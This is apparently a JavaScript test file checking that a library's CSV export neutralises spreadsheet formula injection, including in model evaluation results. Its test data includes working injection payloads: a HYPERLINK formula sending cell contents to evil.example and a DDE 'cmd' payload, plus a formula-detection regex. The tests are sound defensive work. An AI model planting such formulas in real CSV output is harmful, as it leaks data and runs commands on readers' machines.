// What is saved as CSV is opened in spreadsheets, which compute whatever looks like a formula: whoever wrote a row, or
// made the model write one, would have the reader's machine fetch an address with the other cells in it.
import assert from 'node:assert/strict';
import { createRequire } from 'node:module';
import { test } from 'node:test';
import { parseRows } from 'shotglass/data';
import { evaluate, toCsv } from 'shotglass/experiments';
import { formatCsv } from 'shotglass/format';
import { seeded } from '../../support/seeded.mjs';
import { fakeModel, resultOf, sentiment } from '../experiments/fake.mjs';

const Papa = createRequire(new URL('../../../pkg/package.json', import.meta.url))('papaparse');

const formulas = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '+1+cmd|" /C calc"!A0',
  '-2+3+cmd',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '--1',
  '-',
];

/** The fields of CSV as a spreadsheet reads them. */
async function fieldsOf(csv) {
  const { columns, rows } = await parseRows(csv, { format: 'csv' });
  return rows.map(({ values }) => columns.map((column) => values[column]));
}

test('no text begins as a formula does', async () => {
  const fields = await fieldsOf(formatCsv([['text', 'n'], ...formulas.map((text) => [text, 1])]));
  assert.deepEqual(
    fields,
    formulas.map((text) => [`'${text}`, '1']),
  );
});

test('numbers stay numbers, also where they are texts', () => {
  const numbers = ['-3.5', '+7', '-.5', '-1e-7', '12'];
  assert.equal(formatCsv([numbers, [-3.5, -1e-7, 0]]), `${numbers.join()}\r\n-3.5,-1e-7,0\r\n`);
});

test('texts in which such a character stands later are as they were', () => {
  assert.equal(formatCsv([['a=1', 'x-y', "'quoted'", ' =1']]), 'a=1,x-y,\'quoted\'," =1"\r\n');
});

test('the fields are those that the writer of Papa Parse would write', () => {
  const random = seeded(7);
  const pick = (list) => list[Math.floor(random() * list.length)];
  const parts = [...'=+-@＝\t\r\n",;\' .e19', '12', 'ab', '\u2028', '😀', '\ufeff'];
  const text = () => Array.from({ length: Math.floor(random() * 5) }, () => pick(parts)).join('');
  const field = () => (random() < 0.2 ? (random() - 0.5) * 10 ** pick([-9, 0, 22]) : text());
  // A number is no formula, whatever it begins with.
  const formula = /^(?![+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$)[=+\-@\t\r\n＝＋－＠]/i;
  const read = (csv) => Papa.parse(csv, { delimiter: ',', newline: '\r\n' }).data;
  for (let i = 0; i < 5_000; i++) {
    // What a file begins with may be a byte order mark, which readers drop.
    const rows = Array.from({ length: 2 }, () => ['x', field(), field(), field()]);
    for (const escapeFormulae of [formula, false]) {
      const ours = formatCsv(rows, { exact: !escapeFormulae });
      const theirs = Papa.unparse(rows, { newline: '\r\n', escapeFormulae });
      assert.deepEqual(read(ours), read(`${theirs}\r\n`), JSON.stringify(rows));
    }
  }
});

test('an evaluation on hostile rows is safe in a spreadsheet, and exact for a program', async () => {
  const rows = formulas.map((input, i) => ({ input, output: i % 2 ? 'Negative' : 'Positive' }));
  const options = { shots: [0, 2], labels: null };
  const { score } = fakeModel();
  const withBytes = (token) => ({ ...token, bytes: new Uint8Array(1) });
  const model = {
    score: async (...all) =>
      (await score(...all)).map((one) => ({ ...one, tokens: one.tokens.map(withBytes) })),
    async *generate() {
      yield { textDelta: '=1+1', finish: 'stop' };
    },
  };
  const task = { ...sentiment, template: { ...sentiment.template, inputPrefix: '' } };
  const evaluation = await resultOf(evaluate(model, task, rows, options));
  for (const fields of await fieldsOf(toCsv(evaluation))) {
    for (const field of fields) assert.ok(!/^[=+@\t\r\n＝]|^-(?![\d.]+$)/.test(field), field);
  }

  const { rows: read, problems } = await parseRows(toCsv(evaluation, { exact: true }));
  assert.deepEqual(problems, []);
  const own = evaluation.cells.flatMap((cell) => cell.rows);
  assert.deepEqual(
    read.map(({ values }) => [values.input, values.prompt, values.predicted]),
    own.map(({ input, prompt, predicted }) => [input, prompt, predicted]),
  );
  assert.throws(() => toCsv(evaluation, { exact: 'yes' }), { code: 'invalid-option' });
});
